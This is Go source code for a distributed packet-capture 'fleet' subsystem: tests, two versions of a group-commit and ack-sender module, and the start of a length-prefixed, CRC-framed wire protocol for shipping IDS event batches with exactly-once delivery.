		if !eventsEqual(got[i], events[i]) {
			t.Fatalf("event %d wrong after restart", i)
		}
	}
	if w := l2.Watermarks().Get("beta"); w != 3 {
		t.Fatalf("watermark %d, want 3", w)
	}
	if m := s.Metrics(); m.Reconnects == 0 {
		t.Fatalf("no reconnects recorded: %+v", m)
	}
}

// TestListenerDropsStaleRedelivery: a second connection replaying an old
// sequence is acked but not re-applied.
func TestListenerDropsStaleRedelivery(t *testing.T) {
	sink := &memSink{}
	l := listenLoopback(t, sink, t.TempDir())
	defer l.Close()

	events := testEvents(t, 10)
	dial := func() net.Conn {
		t.Helper()
		conn, err := net.Dial("tcp", l.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		h := hello{Version: ProtocolVersion, SensorID: "gamma", ShardCount: 1}
		if err := writeFrame(conn, h.encode()); err != nil {
			t.Fatal(err)
		}
		if _, err := readFrame(conn, nil); err != nil {
			t.Fatal(err)
		}
		return conn
	}
	send := func(conn net.Conn, seq uint64) uint64 {
		t.Helper()
		wire, err := encodeBatch(seq, events, CodecSnappy)
		if err != nil {
			t.Fatal(err)
		}
		if err := writeFrame(conn, wire); err != nil {
			t.Fatal(err)
		}
		frame, err := readFrame(conn, nil)
		if err != nil {
			t.Fatal(err)
		}
		w, err := decodeAck(frame)
		if err != nil {
			t.Fatal(err)
		}
		return w
	}

	conn := dial()
	defer conn.Close()
	if w := send(conn, 1); w != 1 {
		t.Fatalf("ack %d", w)
	}
	if w := send(conn, 2); w != 2 {
		t.Fatalf("ack %d", w)
	}
	// A zombie's redelivery of 1 and 2: dropped, re-acked at the watermark.
	zombie := dial()
	defer zombie.Close()
	if w := send(zombie, 1); w != 2 {
		t.Fatalf("dup ack %d, want 2", w)
	}
	if w := send(zombie, 2); w != 2 {
		t.Fatalf("dup ack %d, want 2", w)
	}
	if got := sink.len(); got != 20 {
		t.Fatalf("sink holds %d events, want 20 (dups applied?)", got)
	}
	_, _, dups := l.Totals()
	if dups != 2 {
		t.Fatalf("dup counter %d, want 2", dups)
	}
	// A gap (4 when the watermark is 2) must fail the connection.
	wire, err := encodeBatch(4, events, CodecSnappy)
	if err != nil {
		t.Fatal(err)
	}
	if err := writeFrame(zombie, wire); err != nil {
		t.Fatal(err)
	}
	zombie.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := readFrame(zombie, nil); err == nil {
		t.Fatal("gap batch was acked instead of failing the connection")
	}
}

// TestShipperAckProgressTimeout: a coordinator that handshakes and then goes
// silent (half-open link: power loss behind a NAT, dropped peer) must not
// stall shipping until the TCP retransmission timeout. The shipper's
// ack-progress timer has to fail the session and reconnect.
func TestShipperAckProgressTimeout(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	// Blackhole coordinator: completes the handshake, then reads and
	// discards frames without ever acking.
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func(conn net.Conn) {
				defer conn.Close()
				if _, err := readFrame(conn, nil); err != nil {
					return
				}
				ack := helloAck{Version: ProtocolVersion, Watermark: 0}
				if err := writeFrame(conn, ack.encode()); err != nil {
					return
				}
				var buf []byte
				for {
					frame, err := readFrame(conn, buf)
					if err != nil {
						return
					}
					buf = frame
				}
			}(conn)
		}
	}()

	cfg := fastShipper(ln.Addr().String(), "half-open", t.TempDir())
	cfg.AckTimeout = 100 * time.Millisecond
	s, err := StartShipper(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.AppendBatch(testEvents(t, 5)); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for s.Metrics().Reconnects == 0 {
		if time.Now().After(deadline) {
			t.Fatalf("no reconnect despite a silent coordinator: %+v", s.Metrics())
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// TestManySensorsConcurrent: several shippers interleave; the sink ends with
// the exact union, each sensor's stream applied in order.
func TestManySensorsConcurrent(t *testing.T) {
	sink := &memSink{}
	l := listenLoopback(t, sink, t.TempDir())
	defer l.Close()

	const sensors, batches, per = 4, 20, 5
	var wg sync.WaitGroup
	shippers := make([]*Shipper, sensors)
	for i := 0; i < sensors; i++ {
		id := string(rune('a' + i))
		s, err := StartShipper(fastShipper(l.Addr().String(), id, t.TempDir()))
		if err != nil {
			t.Fatal(err)
		}
		defer s.Close()
		shippers[i] = s
		wg.Add(1)
		go func(s *Shipper, off int) {
			defer wg.Done()
			events := testEvents(t, batches*per)
			for b := 0; b < batches; b++ {
				if err := s.AppendBatch(events[b*per : (b+1)*per]); err != nil {
					t.Error(err)
					return
				}
			}
		}(s, i)
	}
	wg.Wait()
	for _, s := range shippers {
		waitDrained(t, s)
	}
	if got := sink.len(); got != sensors*batches*per {
		t.Fatalf("sink holds %d events, want %d", got, sensors*batches*per)
	}
	for _, st := range l.Sensors() {
		if st.Watermark != batches {
			t.Fatalf("sensor %s watermark %d, want %d", st.ID, st.Watermark, batches)
		}
	}
}
