package fleet

import (
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// This file is the coordinator's group-commit machinery. The per-batch hot
// path used to be append → fsync sink → fsync watermark → ack, serialized
// under one sensor lock — two fsyncs per batch, so every sensor beyond the
// second just queued behind the disk. Now batches from all sensors append
// concurrently (the eventstore shards its logs and locks), and each append
// enqueues a commitReq. A single committer goroutine drains the queue and
// coalesces everything pending into ONE durability point: one fsync round of
// only-dirty shards plus one commit record carrying every advanced sensor
// watermark. Only after that point are the queued acks released, so the
// exactly-once contract is untouched — an ack still implies the batch and
// its watermark are on disk; what changed is how many batches share the
// price of getting there.

// commitReq asks the committer to make one batch's application durable and
// then release its ack. Requests with appended=false are waiters: duplicate
// deliveries of a batch that is applied but not yet durable — they advance
// nothing, they just may not be acked before the covering commit lands.
type commitReq struct {
	id       string
	seq      uint64
	appended bool
	conn     net.Conn
	ack      *ackSender
}

// CommitStats exposes the committer's health for /metrics: how hard the
// group commit is working and how much coalescing it achieves.
type CommitStats struct {
	// Commits is the number of group commits completed.
	Commits uint64 `json:"commits"`
	// CoalescedBatches is the total number of batch requests those commits
	// covered; CoalescedBatches/Commits is the average group size.
	CoalescedBatches uint64 `json:"coalesced_batches"`
	// LastBatches is the size of the most recent group.
	LastBatches uint64 `json:"last_batches"`
	// LastFsyncNanos is the wall time of the most recent commit's durability
	// round (shard fsyncs + commit record).
	LastFsyncNanos uint64 `json:"last_fsync_nanos"`
	// QueueDepth is the commit queue backlog right now.
	QueueDepth int `json:"queue_depth"`
}

// CommitStats reports the committer's counters.
func (l *Listener) CommitStats() CommitStats {
	return CommitStats{
		Commits:          l.commits.Load(),
		CoalescedBatches: l.coalesced.Load(),
		LastBatches:      l.lastBatches.Load(),
		LastFsyncNanos:   l.lastFsyncNanos.Load(),
		QueueDepth:       len(l.commitCh),
	}
}

// commitLoop is the single committer goroutine. It exits when the queue is
// closed, after committing whatever was still pending (so Close never drops
// an applied-but-unacked batch's watermark).
func (l *Listener) commitLoop() {
	defer close(l.commitDone)
	for {
		first, ok := <-l.commitCh
		if !ok {
			return
		}
		reqs := l.collect(first)
		if l.aborted() {
			continue // test-only crash simulation: drain, never commit
		}
		l.commit(reqs)
	}
}

// collect gathers the group for one commit: the first request plus everything
// already queued (nonblocking drain, the adaptive policy — whatever piled up
// during the previous fsync commits together) or, with CommitInterval set,
// everything that arrives within the interval, capped at MaxCommitBatch.
func (l *Listener) collect(first commitReq) []commitReq {
	reqs := append(make([]commitReq, 0, 16), first)
	var timeout <-chan time.Time
	if l.cfg.CommitInterval > 0 {
		t := time.NewTimer(l.cfg.CommitInterval)
		defer t.Stop()
		timeout = t.C
	}
	for len(reqs) < l.cfg.MaxCommitBatch {
		if timeout != nil {
			select {
			case r, ok := <-l.commitCh:
				if !ok {
					return reqs
				}
				reqs = append(reqs, r)
			case <-timeout:
				return reqs
			case <-l.abortCh:
				return reqs
			}
			continue
		}
		select {
		case r, ok := <-l.commitCh:
			if !ok {
				return reqs
			}
			reqs = append(reqs, r)
		default:
			return reqs
		}
	}
	return reqs
}

// commit makes one group of batches durable and releases their acks.
func (l *Listener) commit(reqs []commitReq) {
	start := time.Now()
	advances := make(map[string]uint64, 4)
	for _, r := range reqs {
		if r.appended && r.seq > advances[r.id] {
			advances[r.id] = r.seq
		}
	}
	var err error
	if l.metaSink != nil {
		// The watermarks ride inside the sink's commit record, so "events
		// durable" and "batches applied" are one atomic disk state — there is
		// no crash window where one exists without the other.
		if err = l.metaSink.Commit(l.wm.encodeWith(advances)); err == nil {
			l.wm.adopt(advances)
		}
	} else {
		// No commit-record sink: fsync the sink (when it can) first, then the
		// watermark journal, preserving the original ordering — a crash
		// between the two costs redelivery, never loss.
		if l.sinkSync != nil {
			err = l.sinkSync.Sync()
		}
		if err == nil {
			err = l.wm.AdvanceAll(advances)
		}
	}
	if err != nil {
		// Durability failed: nothing is acked, every involved connection is
		// failed so its sensor resyncs and redelivers. That downgrade — acked
		// exactly-once to unacked at-least-once — is the contract.
		l.fail(fmt.Errorf("fleet: group commit of %d batches: %w", len(reqs), err))
		for _, r := range reqs {
			r.conn.Close()
		}
		return
	}
	l.commits.Add(1)
	l.coalesced.Add(uint64(len(reqs)))
	l.lastBatches.Store(uint64(len(reqs)))
	l.lastFsyncNanos.Store(uint64(time.Since(start)))
	for _, r := range reqs {
		r.ack.push(l.wm.Get(r.id))
	}
}

func (l *Listener) aborted() bool {
	select {
	case <-l.abortCh:
		return true
	default:
		return false
	}
}

// ackSender writes cumulative acks on one connection from its own goroutine,
// so a slow group commit (or a slow peer) stalls ack delivery, never the
// connection's read loop. Acks are cumulative, so only the newest watermark
// matters: pushes coalesce into an atomic max plus a one-slot kick.
type ackSender struct {
	conn    net.Conn
	timeout time.Duration
	latest  atomic.Uint64
	kick    chan struct{}
	stop    chan struct{}
	done    chan struct{}
}

func newAckSender(conn net.Conn, timeout time.Duration) *ackSender {
	a := &ackSender{
		conn:    conn,
		timeout: timeout,
		kick:    make(chan struct{}, 1),
		stop:    make(chan struct{}),
		done:    make(chan struct{}),
	}
	go a.run()
	return a
}

// push raises the watermark to send. Safe from any goroutine, including the
// committer after the connection is gone (it becomes a no-op).
func (a *ackSender) push(w uint64) {
	for {
		cur := a.latest.Load()
		if w <= cur || a.latest.CompareAndSwap(cur, w) {
			break
		}
	}
	select {
	case a.kick <- struct{}{}:
	default:
	}
}

func (a *ackSender) run() {
	defer close(a.done)
	for {
		select {
		case <-a.stop:
			return
		case <-a.kick:
		}
		// Every kick sends a frame, even at an unchanged watermark — a
		// duplicate delivery of an already-durable batch is answered by
		// re-acking the watermark as-is. Bursts coalesce through the one-slot
		// kick, and cumulative acks are idempotent on the sensor side.
		a.conn.SetWriteDeadline(time.Now().Add(a.timeout))
		if err := writeFrame(a.conn, encodeAck(a.latest.Load())); err != nil {
			// Fail the whole connection: the read loop unblocks and the
			// sensor redelivers everything unacked after reconnecting.
			a.conn.Close()
			return
		}
	}
}

// close stops the writer goroutine; pending pushes are dropped (the sensor's
// next handshake learns the watermark anyway).
func (a *ackSender) close() {
	close(a.stop)
	<-a.done
}

// The decode pool: connection read loops hand compressed batch frames to a
// bounded set of workers so snappy/deflate decode runs on all cores instead
// of serially inside each read loop, with frame copies recycled through a
// sync.Pool and each worker reusing one decompression scratch buffer.

type decodeJob struct {
	buf *[]byte           // pooled copy of the wire frame
	out chan decodeResult // buffered(1): the worker never blocks on delivery
}

type decodeResult struct {
	batch batchMsg
	err   error
}

var frameBufPool = sync.Pool{
	New: func() any { b := make([]byte, 0, 32<<10); return &b },
}

// decodeScratchMax caps the per-worker decompression buffer a worker keeps
// between jobs; an outlier batch larger than this decodes fine but its
// buffer is not retained.
const decodeScratchMax = 4 << 20

func (l *Listener) decodeWorker() {
	defer l.decodeWg.Done()
	var scratch []byte
	for job := range l.decodeCh {
		m, sc, err := decodeBatchScratch(*job.buf, scratch)
		if cap(sc) <= decodeScratchMax {
			scratch = sc
		} else {
			scratch = nil
		}
		frameBufPool.Put(job.buf) // events never alias the frame: DecodeEvent copies
		job.out <- decodeResult{batch: m, err: err}
	}
}
