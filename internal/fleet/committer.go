package fleet

import (
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// This file is the coordinator's group-commit machinery. The per-batch hot
// path used to be append → fsync sink → fsync watermark → ack, serialized
// under one sensor lock — two fsyncs per batch, so every sensor beyond the
// second just queued behind the disk. Now batches from all sensors append
// concurrently (the eventstore shards its logs and locks), and each append
// enqueues a commitReq. A single committer goroutine drains the queue and
// coalesces everything pending into ONE durability point: one fsync round of
// only-dirty shards plus one commit record carrying every advanced sensor
// watermark. Only after that point are the queued acks released, so the
// exactly-once contract is untouched — an ack still implies the batch and
// its watermark are on disk; what changed is how many batches share the
// price of getting there.

// commitReq asks the committer to make one batch's application durable and
// then release its ack. Requests with appended=false are waiters: duplicate
// deliveries of a batch that is applied but not yet durable — they advance
// nothing, they just may not be acked before the covering commit lands.
type commitReq struct {
	id       string
	seq      uint64
	appended bool
	conn     net.Conn
	ack      *ackSender
}

// CommitStats exposes the committer's health for /metrics: how hard the
// group commit is working and how much coalescing it achieves.
type CommitStats struct {
	// Commits is the number of group commits completed.
	Commits uint64 `json:"commits"`
	// CoalescedBatches is the total number of batch requests those commits
	// covered; CoalescedBatches/Commits is the average group size.
	CoalescedBatches uint64 `json:"coalesced_batches"`
	// LastBatches is the size of the most recent group.
	LastBatches uint64 `json:"last_batches"`
	// LastFsyncNanos is the wall time of the most recent commit's durability
	// round (shard fsyncs + commit record).
	LastFsyncNanos uint64 `json:"last_fsync_nanos"`
	// QueueDepth is the commit queue backlog right now.
	QueueDepth int `json:"queue_depth"`
}

// CommitStats reports the committer's counters.
func (l *Listener) CommitStats() CommitStats {
	l.pendMu.Lock()
	depth := len(l.pending)
	l.pendMu.Unlock()
	return CommitStats{
		Commits:          l.commits.Load(),
		CoalescedBatches: l.coalesced.Load(),
		LastBatches:      l.lastBatches.Load(),
		LastFsyncNanos:   l.lastFsyncNanos.Load(),
		QueueDepth:       depth,
	}
}

// enqueueCommit adds one request to the commit queue. It never blocks — apply
// calls it from inside the sink's append locks (see hookAppender), where
// blocking on the committer would deadlock.
func (l *Listener) enqueueCommit(r commitReq) {
	l.pendMu.Lock()
	l.pending = append(l.pending, r)
	l.pendMu.Unlock()
	select {
	case l.commitKick <- struct{}{}:
	default:
	}
}

// takePending drains the whole commit queue. During a commit this runs at the
// sink's cut, under its exclusive append lock: every append that the cut's
// sizes cover has already enqueued its request (the in-lock hook), so the
// drain is complete by construction.
func (l *Listener) takePending() []commitReq {
	l.pendMu.Lock()
	reqs := l.pending
	l.pending = nil
	l.pendMu.Unlock()
	return reqs
}

func (l *Listener) pendingLen() int {
	l.pendMu.Lock()
	defer l.pendMu.Unlock()
	return len(l.pending)
}

// commitLoop is the single committer goroutine. It exits when commitStop
// closes, after one final commit of whatever was still pending plus every
// sensor's applied position (so Close never drops an applied batch's
// watermark — not even one whose own commit had failed).
func (l *Listener) commitLoop() {
	defer close(l.commitDone)
	final := func() {
		if !l.aborted() {
			l.commit(l.closeAdvances())
		}
	}
	for {
		select {
		case <-l.commitKick:
		case <-l.commitStop:
			final()
			return
		}
		if l.cfg.CommitInterval > 0 {
			// Gather: everything that arrives within the interval joins this
			// group (the drain at the cut picks it up).
			t := time.NewTimer(l.cfg.CommitInterval)
			select {
			case <-t.C:
			case <-l.commitStop:
				t.Stop()
				final()
				return
			case <-l.abortCh:
				t.Stop()
			}
		}
		if l.aborted() {
			l.takePending() // test-only crash simulation: drain, never commit
			continue
		}
		if l.pendingLen() == 0 {
			continue // drained by the previous commit; its kick was stale
		}
		l.commit(nil)
	}
}

// closeAdvances is the final commit's extra watermark advances: every
// sensor's applied position. Normally the queue drain already covers these,
// but after a FAILED commit the dropped group's batches are applied — their
// bytes sit in the shard files — with no request left to advance them. The
// sink's own Close flushes everything appended, so the last record written
// by this listener must account for those bytes or a restart would replay
// them on top of themselves.
func (l *Listener) closeAdvances() map[string]uint64 {
	adv := make(map[string]uint64)
	l.mu.Lock()
	defer l.mu.Unlock()
	for id, st := range l.sensors {
		st.applyMu.Lock()
		if st.appliedInit && st.applied > l.wm.Get(id) {
			adv[id] = st.applied
		}
		st.applyMu.Unlock()
	}
	return adv
}

// commit makes one group of batches durable and releases their acks. The
// group is whatever the queue holds at the sink's commit cut, plus extra
// watermark advances (the shutdown path's applied positions) and the carry
// from failed commits. Non-appended (duplicate) requests advance the
// watermark too: a duplicate is only queued when its batch is already
// applied, so its bytes sit in the shard files and any cut covers them.
func (l *Listener) commit(extra map[string]uint64) {
	start := time.Now()
	advances := make(map[string]uint64, 4)
	// The carry re-folds advances from failed commits. Those groups' batches
	// stay applied — their bytes are in the shard files, inside every future
	// cut — but their requests are gone. A later record that covered the
	// bytes without these advances would, after a crash, invite the sensor
	// to redeliver on top of them: a double apply.
	for id, seq := range l.carry {
		advances[id] = seq
	}
	for id, seq := range extra {
		if seq > advances[id] {
			advances[id] = seq
		}
	}
	var reqs []commitReq
	drain := func() {
		reqs = l.takePending()
		for _, r := range reqs {
			if r.seq > advances[r.id] {
				advances[r.id] = r.seq
			}
		}
	}
	var err error
	if l.metaSink != nil {
		// The watermarks ride inside the sink's commit record, so "events
		// durable" and "batches applied" are one atomic disk state — there is
		// no crash window where one exists without the other. The queue is
		// drained at the cut itself, so the record's meta covers exactly the
		// batches whose bytes its sizes promise durable.
		err = l.metaSink.CommitFunc(func() []byte {
			drain()
			return l.wm.encodeWith(advances)
		})
		if err == nil {
			l.wm.adopt(advances)
		}
	} else {
		// No commit-record sink: drain first, then fsync the sink (when it
		// can), then the watermark journal, preserving the original ordering
		// — a crash between the two costs redelivery, never loss.
		drain()
		if l.sinkSync != nil {
			err = l.sinkSync.Sync()
		}
		if err == nil {
			err = l.wm.AdvanceAll(advances)
		}
	}
	if err != nil {
		// Durability failed: nothing is acked, every involved connection is
		// failed so its sensor resyncs and redelivers. That downgrade — acked
		// exactly-once to unacked at-least-once — is the contract. The
		// advances are carried into the next commit's record.
		l.carry = advances
		l.fail(fmt.Errorf("fleet: group commit of %d batches: %w", len(reqs), err))
		for _, r := range reqs {
			r.conn.Close()
		}
		return
	}
	l.carry = nil
	l.commits.Add(1)
	l.coalesced.Add(uint64(len(reqs)))
	l.lastBatches.Store(uint64(len(reqs)))
	l.lastFsyncNanos.Store(uint64(time.Since(start)))
	for _, r := range reqs {
		r.ack.push(l.wm.Get(r.id))
	}
}

func (l *Listener) aborted() bool {
	select {
	case <-l.abortCh:
		return true
	default:
		return false
	}
}

// ackSender writes cumulative acks on one connection from its own goroutine,
// so a slow group commit (or a slow peer) stalls ack delivery, never the
// connection's read loop. Acks are cumulative, so only the newest watermark
// matters: pushes coalesce into an atomic max plus a one-slot kick.
type ackSender struct {
	conn    net.Conn
	timeout time.Duration
	latest  atomic.Uint64
	kick    chan struct{}
	stop    chan struct{}
	done    chan struct{}
}

func newAckSender(conn net.Conn, timeout time.Duration) *ackSender {
	a := &ackSender{
		conn:    conn,
		timeout: timeout,
		kick:    make(chan struct{}, 1),
		stop:    make(chan struct{}),
		done:    make(chan struct{}),
	}
	go a.run()
	return a
}

// push raises the watermark to send. Safe from any goroutine, including the
// committer after the connection is gone (it becomes a no-op).
func (a *ackSender) push(w uint64) {
	for {
		cur := a.latest.Load()
		if w <= cur || a.latest.CompareAndSwap(cur, w) {
			break
		}
	}
	select {
	case a.kick <- struct{}{}:
	default:
	}
}

func (a *ackSender) run() {
	defer close(a.done)
	for {
		select {
		case <-a.stop:
			return
		case <-a.kick:
		}
		// Every kick sends a frame, even at an unchanged watermark — a
		// duplicate delivery of an already-durable batch is answered by
		// re-acking the watermark as-is. Bursts coalesce through the one-slot
		// kick, and cumulative acks are idempotent on the sensor side.
		a.conn.SetWriteDeadline(time.Now().Add(a.timeout))
		if err := writeFrame(a.conn, encodeAck(a.latest.Load())); err != nil {
			// Fail the whole connection: the read loop unblocks and the
			// sensor redelivers everything unacked after reconnecting.
			a.conn.Close()
			return
		}
	}
}

// close stops the writer goroutine; pending pushes are dropped (the sensor's
// next handshake learns the watermark anyway).
func (a *ackSender) close() {
	close(a.stop)
	<-a.done
}

// The decode pool: connection read loops hand compressed batch frames to a
// bounded set of workers so snappy/deflate decode runs on all cores instead
// of serially inside each read loop, with frame copies recycled through a
// sync.Pool and each worker reusing one decompression scratch buffer.

type decodeJob struct {
	buf *[]byte           // pooled copy of the wire frame
	out chan decodeResult // buffered(1): the worker never blocks on delivery
}

type decodeResult struct {
	batch batchMsg
	err   error
}

var frameBufPool = sync.Pool{
	New: func() any { b := make([]byte, 0, 32<<10); return &b },
}

// decodeScratchMax caps the per-worker decompression buffer a worker keeps
// between jobs; an outlier batch larger than this decodes fine but its
// buffer is not retained.
const decodeScratchMax = 4 << 20

func (l *Listener) decodeWorker() {
	defer l.decodeWg.Done()
	var scratch []byte
	for job := range l.decodeCh {
		m, sc, err := decodeBatchScratch(*job.buf, scratch)
		if cap(sc) <= decodeScratchMax {
			scratch = sc
		} else {
			scratch = nil
		}
		frameBufPool.Put(job.buf) // events never alias the frame: DecodeEvent copies
		job.out <- decodeResult{batch: m, err: err}
	}
}
