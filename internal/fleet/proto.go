// Package fleet is the distributed-capture subsystem: the wire protocol,
// sensor-side shipper, and coordinator-side listener that let many capture
// nodes (each running packet capture, TCP reassembly, and IDS matching over
// its shard of the telescope address space) feed one analysis coordinator
// with exactly-once semantics.
//
// The wire protocol is length-prefixed, CRC-framed messages over one TCP
// connection per sensor — the same self-describing record framing the
// eventstore uses on disk, so a frame torn by a dying connection is detected
// the same way a torn append is. Event batches carry per-sensor monotonic
// sequence numbers; the coordinator persists a per-sensor high watermark
// alongside the eventstore and drops any redelivered batch at or below it,
// which converts the shipper's at-least-once retransmission into
// exactly-once ingest. Batches are compressed (snappy by default, deflate or
// raw negotiable per batch) since encoded events are highly repetitive.
//
// Message flow:
//
//	sensor                         coordinator
//	  | -- Hello{id, shard} ------------> |   handshake
//	  | <------ HelloAck{watermark} ----- |   resume point
//	  | -- Batch{seq=w+1, events} ------> |   bounded in-flight window
//	  | -- Batch{seq=w+2, events} ------> |
//	  | <------------- Ack{w+2} --------- |   cumulative
//	  | -- Heartbeat{lag} --------------> |   liveness while idle
//
// On reconnect the handshake's watermark tells the sensor where to resume;
// everything still spooled above it is resent in order.
//
// The watermark dedups wire-level redelivery: the same spooled batch sent
// twice. It cannot recognize events a sensor re-captured after a hard crash
// (they arrive under fresh sequence numbers), so end-to-end exactly-once is
// the joint property of this protocol and the sensor's ingest checkpoint,
// which bounds re-capture to the window since the last idle flush.
//
// # Group commit
//
// The coordinator does not fsync per batch. Appends from all sensors land in
// the sharded event log concurrently; a single committer goroutine coalesces
// every batch pending at that moment into one durability point — one fsync
// round of only-dirty shards plus one commit record that carries every
// advanced sensor watermark — and only then releases the queued acks. The
// exactly-once boundary is unchanged: an ack still means "this batch and the
// watermark that dedups its redelivery are both on disk". What coalescing
// changes is the failure granularity — a crash between append and group
// commit discards the whole unacked group (the eventstore truncates back to
// its last commit record on restart) and every affected sensor redelivers
// from its durable watermark. Nothing acked is ever lost; nothing unacked is
// ever applied twice. Ack latency is bounded by the commit interval
// (ListenerConfig.CommitInterval, default adaptive: each group is whatever
// arrived during the previous group's fsync).
package fleet

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"net/netip"

	"repro/internal/eventstore"
	"repro/internal/ids"
)

// ProtocolVersion is the handshake version; a mismatch fails the handshake
// loudly rather than guessing at frame semantics.
const ProtocolVersion = 1

// Codec identifies a batch payload compression.
type Codec uint8

const (
	// CodecRaw ships encoded events uncompressed.
	CodecRaw Codec = iota
	// CodecDeflate uses DEFLATE (compress/flate) at BestSpeed.
	CodecDeflate
	// CodecSnappy uses the in-repo snappy block codec — the default: ~3x on
	// event batches at a fraction of deflate's CPU.
	CodecSnappy
)

func (c Codec) String() string {
	switch c {
	case CodecRaw:
		return "raw"
	case CodecDeflate:
		return "deflate"
	case CodecSnappy:
		return "snappy"
	default:
		return fmt.Sprintf("codec(%d)", uint8(c))
	}
}

// ParseCodec maps a flag value to a Codec.
func ParseCodec(s string) (Codec, error) {
	switch s {
	case "raw", "none":
		return CodecRaw, nil
	case "deflate":
		return CodecDeflate, nil
	case "snappy", "":
		return CodecSnappy, nil
	}
	return 0, fmt.Errorf("fleet: unknown codec %q (raw, deflate, snappy)", s)
}

// Message types (first payload byte of every frame).
const (
	msgHello     = 1 // sensor -> coordinator: id, shard, preferred codec
	msgHelloAck  = 2 // coordinator -> sensor: high watermark to resume past
	msgBatch     = 3 // sensor -> coordinator: seq + compressed events
	msgAck       = 4 // coordinator -> sensor: cumulative applied watermark
	msgHeartbeat = 5 // sensor -> coordinator: liveness + local lag
)

const (
	// maxFrame bounds one wire frame; a length prefix beyond it means a
	// corrupt or hostile peer and fails the connection.
	maxFrame = 16 << 20
	// maxBatchRaw bounds the decompressed size of one batch.
	maxBatchRaw = 64 << 20
)

var wireCRC = crc32.MakeTable(crc32.IEEE)

// writeFrame writes one framed payload: u32 length | u32 CRC | payload,
// little-endian — AppendFrame's format on a socket.
func writeFrame(w io.Writer, payload []byte) error {
	frame := eventstore.AppendFrame(make([]byte, 0, 8+len(payload)), payload)
	return writeRawFrame(w, payload, frame)
}

// writeFrameReusing is writeFrame assembling the wire bytes in *scratch, for
// hot paths (batch sends, acks) that would otherwise allocate and copy a
// frame per message.
func writeFrameReusing(w io.Writer, payload []byte, scratch *[]byte) error {
	*scratch = eventstore.AppendFrame((*scratch)[:0], payload)
	return writeRawFrame(w, payload, *scratch)
}

func writeRawFrame(w io.Writer, payload, frame []byte) error {
	if len(payload) > maxFrame {
		return fmt.Errorf("fleet: frame of %d bytes exceeds limit", len(payload))
	}
	_, err := w.Write(frame)
	return err
}

// readFrame reads one framed payload, verifying length bound and CRC.
func readFrame(r io.Reader, buf []byte) ([]byte, error) {
	var hdr [8]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, err
	}
	length := binary.LittleEndian.Uint32(hdr[0:4])
	sum := binary.LittleEndian.Uint32(hdr[4:8])
	if length > maxFrame {
		return nil, fmt.Errorf("fleet: frame length %d exceeds limit", length)
	}
	if cap(buf) < int(length) {
		buf = make([]byte, length)
	}
	buf = buf[:length]
	if _, err := io.ReadFull(r, buf); err != nil {
		return nil, fmt.Errorf("fleet: truncated frame: %w", err)
	}
	if crc32.Checksum(buf, wireCRC) != sum {
		return nil, fmt.Errorf("fleet: frame CRC mismatch")
	}
	return buf, nil
}

// hello is the sensor's handshake.
type hello struct {
	Version    uint8
	SensorID   string
	ShardIndex uint32
	ShardCount uint32
	Codec      Codec
}

func (h *hello) encode() []byte {
	buf := []byte{msgHello, h.Version}
	buf = appendString16(buf, h.SensorID)
	buf = binary.LittleEndian.AppendUint32(buf, h.ShardIndex)
	buf = binary.LittleEndian.AppendUint32(buf, h.ShardCount)
	return append(buf, byte(h.Codec))
}

func decodeHello(b []byte) (hello, error) {
	d := wireDecoder{b: b}
	var h hello
	if t := d.u8(); t != msgHello {
		return h, fmt.Errorf("fleet: expected Hello, got message type %d", t)
	}
	h.Version = d.u8()
	h.SensorID = d.string16()
	h.ShardIndex = d.u32()
	h.ShardCount = d.u32()
	h.Codec = Codec(d.u8())
	if err := d.finish("Hello"); err != nil {
		return h, err
	}
	if h.Version != ProtocolVersion {
		return h, fmt.Errorf("fleet: protocol version %d, want %d", h.Version, ProtocolVersion)
	}
	if h.SensorID == "" {
		return h, fmt.Errorf("fleet: empty sensor id in Hello")
	}
	if h.ShardCount == 0 || h.ShardIndex >= h.ShardCount {
		return h, fmt.Errorf("fleet: bad shard %d/%d in Hello", h.ShardIndex, h.ShardCount)
	}
	return h, nil
}

// helloAck answers a hello with the resume point.
type helloAck struct {
	Version   uint8
	Watermark uint64
}

func (h *helloAck) encode() []byte {
	buf := []byte{msgHelloAck, h.Version}
	return binary.LittleEndian.AppendUint64(buf, h.Watermark)
}

func decodeHelloAck(b []byte) (helloAck, error) {
	d := wireDecoder{b: b}
	var h helloAck
	if t := d.u8(); t != msgHelloAck {
		return h, fmt.Errorf("fleet: expected HelloAck, got message type %d", t)
	}
	h.Version = d.u8()
	h.Watermark = d.u64()
	if err := d.finish("HelloAck"); err != nil {
		return h, err
	}
	if h.Version != ProtocolVersion {
		return h, fmt.Errorf("fleet: coordinator speaks version %d, want %d", h.Version, ProtocolVersion)
	}
	return h, nil
}

// batchMsg is one sequenced batch of events.
type batchMsg struct {
	Seq    uint64
	Events []ids.Event
}

// encodeBatch encodes and compresses a batch. Events are concatenated as
// framed EncodeEvent payloads (u32 length | bytes), then the concatenation is
// compressed with the given codec.
func encodeBatch(seq uint64, events []ids.Event, codec Codec) ([]byte, error) {
	buf, _, err := encodeBatchScratch(nil, nil, seq, events, codec)
	return buf, err
}

// encodeBatchScratch is encodeBatch building into dst's storage and using
// raw's storage for the uncompressed concatenation, so the shipper's send
// loop reuses two buffers instead of allocating both per batch. Returns the
// encoded message and the (possibly grown) raw scratch.
func encodeBatchScratch(dst, raw []byte, seq uint64, events []ids.Event, codec Codec) ([]byte, []byte, error) {
	raw = raw[:0]
	var tmp []byte
	for i := range events {
		tmp = eventstore.EncodeEvent(tmp[:0], &events[i])
		raw = binary.LittleEndian.AppendUint32(raw, uint32(len(tmp)))
		raw = append(raw, tmp...)
	}
	buf := append(dst[:0], msgBatch)
	buf = binary.LittleEndian.AppendUint64(buf, seq)
	buf = append(buf, byte(codec))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(events)))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(raw)))
